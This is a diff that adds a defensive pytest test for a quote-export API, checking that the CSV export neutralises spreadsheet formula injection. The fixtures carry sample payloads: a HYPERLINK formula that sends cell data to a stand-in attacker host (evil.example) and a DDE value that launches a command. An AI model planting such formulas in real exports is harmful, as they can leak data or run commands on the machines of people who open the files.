@@ -104,6 +104,28 @@ def test_export_streams_every_matching_quote(anonymous):
     assert len(table) == 3 and table[0]["text"] and table[0]["speaker_slug"]
 
 
+def test_csv_export_neutralises_formulas(anonymous):
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+    article = ArticleFactory(
+        body=formula + " said the page.", title="+cmd|' /C calc'!A0", outlet="@SUM(1+1)"
+    )
+    speaker = SpeakerFactory(name="-2+3", slug="minus")
+    QuoteFactory(
+        article=article, speaker=speaker, length=len(formula), mention="\tTab", cue="\rsaid"
+    )
+    exported = anonymous.get("/api/v1/quotes/export.csv")
+    (row,) = csv.DictReader(io.StringIO(b"".join(exported.streaming_content).decode()))
+    assert row["text"] == "'" + formula
+    assert row["article_title"] == "'+cmd|' /C calc'!A0"
+    assert row["outlet"] == "'@SUM(1+1)"
+    assert row["speaker"] == "'-2+3"
+    assert row["mention"] == "'\tTab" and row["cue"] == "'\rsaid"
+    assert row["speaker_slug"] == "minus" and row["confidence"] == "1.0"
+    # JSON Lines are data, not a spreadsheet: kept as they are
+    jsonl = anonymous.get("/api/v1/quotes/export.jsonl")
+    assert json.loads(b"".join(jsonl.streaming_content))["text"] == formula
+
+
 @pytest.mark.parametrize(
     "url",
     [
